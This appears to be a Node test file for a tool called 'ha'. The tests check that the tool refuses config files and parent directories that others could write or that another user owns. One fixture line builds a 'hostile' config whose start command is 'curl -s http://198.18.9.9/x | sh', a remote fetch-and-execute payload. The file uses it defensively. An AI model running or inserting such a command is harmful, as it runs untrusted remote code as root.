import assert from 'node:assert/strict'
import {execFileSync} from 'node:child_process'
import {chmodSync, chownSync, mkdirSync, readFileSync, symlinkSync, truncateSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {test} from 'node:test'

import {ha, repoRoot, tempDir} from '../helpers/cli.js'
import {missingPrerequisite} from '../helpers/prereq.js'

/**
 * The config runs as root (services.start is an argv ha runs on both nodes), so ha reads it as
 * sshd reads its files under StrictModes: the file and every directory on the way to it owned by
 * root (or the user running ha) and writable by no one else, refused otherwise with exit 2 and the
 * chmod/chown that fixes it. Real files, real modes, as root and as an unprivileged user.
 */
const example = readFileSync(join(repoRoot, 'templates/ha.example.yaml'), 'utf8')
const hostile = example.replace('start: [/etc/init.d/xvm, start]', 'start: [/bin/sh, -c, "curl -s http://198.18.9.9/x | sh"]')
const nobody = 65_534

function write(path: string, mode = 0o644, text = hostile): string {
  writeFileSync(path, text)
  chmodSync(path, mode)
  return path
}

function refused(args: string[], pattern: RegExp, fix: string, options: Parameters<typeof ha>[1] = {}) {
  const r = ha(args, options)
  assert.equal(r.status, 2, `exit 2 expected:\n${r.stdout}${r.stderr}`)
  assert.match(r.stderr, pattern)
  assert.match(r.stderr, /so ha refuses a config that anyone but root.* could change; nothing was run/)
  assert.ok(r.stderr.includes(`→ ${fix}`), `the fix "${fix}" in:\n${r.stderr}`)
  assert.doesNotMatch(r.stdout, /valid:/)
}

test('a config writable by its group or by others, or owned by another user, is refused with the chmod/chown to fix it, by every command', {skip: missingPrerequisite(['root'])}, (t) => {
  const dir = tempDir(t)
  const config = write(join(dir, 'ha.yaml'), 0o666)
  refused(['config', 'check', '--config', config], new RegExp(`${config} is writable by others \\(mode 0666\\)`), `chmod go-w ${config}`)
  // The same loader for every command: ha status never reaches a node with it.
  refused(['status', '--config', config], /is writable by others \(mode 0666\)/, `chmod go-w ${config}`)
  refused(['backup', '--config', config], /is writable by others \(mode 0666\)/, `chmod go-w ${config}`, {env: {HA_CONFIG: ''}})
  chmodSync(config, 0o664)
  refused(['config', 'check', '--config', config], /is writable by its group \(mode 0664\)/, `chmod go-w ${config}`)
  chmodSync(config, 0o644)
  chownSync(config, 4242, 4242)
  refused(['config', 'check', '--config', config], /is owned by uid 4242, not by root:/, `chown root ${config}`)
  chownSync(config, 0, 0)
  assert.equal(ha(['config', 'check', '--config', config]).status, 0, 'root:root 0644 in a 0700 mkdtemp folder under /tmp is accepted')
  assert.equal(readFileSync(config, 'utf8'), hostile, 'nothing was changed')
})

test('a directory above the config that others can write is refused by name, also when reached through a symlink', {skip: missingPrerequisite(['root'])}, (t) => {
  const dir = tempDir(t)
  mkdirSync(join(dir, 'etc/ha'), {recursive: true})
  const config = write(join(dir, 'etc/ha/ha.yaml'))
  chmodSync(join(dir, 'etc'), 0o777)
  refused(['config', 'check', '--config', config], new RegExp(`${dir}/etc \\(on the way to ${config}\\) is writable by others \\(mode 0777\\)`), `chmod go-w ${dir}/etc`)
  chmodSync(join(dir, 'etc'), 0o775)
  refused(['config', 'check', '--config', config], /etc \(on the way to .*\) is writable by its group \(mode 0775\)/, `chmod go-w ${dir}/etc`)
  chmodSync(join(dir, 'etc'), 0o755)
  chownSync(join(dir, 'etc/ha'), 4242, 4242)
  refused(['config', 'check', '--config', config], /etc\/ha \(on the way to .*\) is owned by uid 4242/, `chown root ${dir}/etc/ha`)
  chownSync(join(dir, 'etc/ha'), 0, 0)

  // /etc/ha/ha.yaml as a link into a folder anyone can write: the folder the link leads to is judged.
  mkdirSync(join(dir, 'open'), {mode: 0o777})
  chmodSync(join(dir, 'open'), 0o777)
  write(join(dir, 'open/ha.yaml'))
  const link = join(dir, 'etc/ha/linked.yaml')
  symlinkSync('../../open/ha.yaml', link)
  refused(['config', 'check', '--config', link], new RegExp(`${dir}/open \\(on the way to ${link}\\) is writable by others`), `chmod go-w ${dir}/open`)
  chmodSync(join(dir, 'open'), 0o755)
  assert.equal(ha(['config', 'check', '--config', link]).status, 0, 'a link through folders only root can write is followed')
})

test('a sticky folder like /tmp: a name in it that root owns is accepted, one another user owns is refused', {skip: missingPrerequisite(['root'])}, (t) => {
  const dir = tempDir(t)
  const shared = join(dir, 'tmp')
  mkdirSync(shared)
  chmodSync(shared, 0o1777)
  const direct = write(join(shared, 'ha.yaml'))
  assert.equal(ha(['config', 'check', '--config', direct]).status, 0, 'root owns the name in the sticky folder: no one else can rename it')
  mkdirSync(join(shared, 'theirs'), {mode: 0o755})
  const theirs = write(join(shared, 'theirs/ha.yaml'))
  chownSync(join(shared, 'theirs'), 4242, 4242)
  refused(['config', 'check', '--config', theirs], new RegExp(`${shared} \\(on the way to ${theirs}\\) is writable by others \\(mode 1777\\); it is sticky, but the name ha looks up in it belongs to uid 4242`), 'move the file into a folder owned by root, mode 0755 or stricter (e.g. mkdir -m 0755 /etc/ha), not directly in ' + shared)
})

test('as an unprivileged user: its own config is accepted, one it does not own is refused', {skip: missingPrerequisite(['root'])}, (t) => {
  const dir = tempDir(t)
  chmodSync(dir, 0o755)
  const home = join(dir, 'home')
  mkdirSync(home, {mode: 0o700})
  chownSync(home, nobody, nobody)
  const config = write(join(home, 'ha.yaml'), 0o644, example)
  chownSync(config, nobody, nobody)
  // Reading and searching any folder stays allowed (CAP_DAC_READ_SEARCH): CI's clone may sit in a
  // 0700 folder nobody cannot enter to reach bin/run.js. The guard judges owners and modes, not access.
  const asNobody = {env: {HOME: home}, prefix: ['setpriv', `--reuid=${nobody}`, `--regid=${nobody}`, '--clear-groups', '--inh-caps=+dac_read_search', '--ambient-caps=+dac_read_search']}
  const ok = ha(['config', 'check', '--config', config], asNobody)
  assert.equal(ok.status, 0, ok.stderr)
  chownSync(config, 4242, 4242)
  refused(['config', 'check', '--config', config], new RegExp(`is owned by uid 4242, not by root or uid ${nobody} \\(the user running ha\\)`), `chown root ${config}`, asNobody)
})

test('a config over 1 MiB is refused before it is read, and a FIFO is refused without waiting on it', {skip: missingPrerequisite(['root'])}, (t) => {
  const dir = tempDir(t)
  const big = write(join(dir, 'big.yaml'), 0o644, example)
  truncateSync(big, 50 * 1024 * 1024)
  const started = Date.now()
  const r = ha(['config', 'check', '--config', big])
  assert.equal(r.status, 2)
  assert.match(r.stderr, new RegExp(`${big}: the config is 52428800 bytes, more than the 1 MiB ha reads .*; nothing was read`))
  assert.ok(Date.now() - started < 5000, `refused in ${Date.now() - started} ms`)

  const fifo = join(dir, 'fifo.yaml')
  execFileSync('mkfifo', ['-m', '0644', fifo])
  const f = ha(['config', 'check', '--config', fifo], {timeoutMs: 10_000})
  assert.equal(f.status, 2, f.stderr)
  assert.match(f.stderr, new RegExp(`${fifo} is not a regular file`))
})

test('a backup manifest of the admin\'s own is guarded like the config', {skip: missingPrerequisite(['root'])}, (t) => {
  const dir = tempDir(t)
  const manifest = write(join(dir, 'manifest.yaml'), 0o666, 'entries:\n  - path: /etc/hosts\n')
  const config = write(join(dir, 'ha.yaml'), 0o644, example.replace('manifest: builtin:opscenter', `manifest: ${manifest}`))
  const r = ha(['config', 'check', '--config', config])
  assert.equal(r.status, 2)
  assert.match(r.stderr, new RegExp(`${manifest} is writable by others \\(mode 0666\\): ha backs up and restores, as root, the paths a backup manifest names, so ha refuses`))
  chmodSync(manifest, 0o644)
  assert.equal(ha(['config', 'check', '--config', config]).status, 0)
})
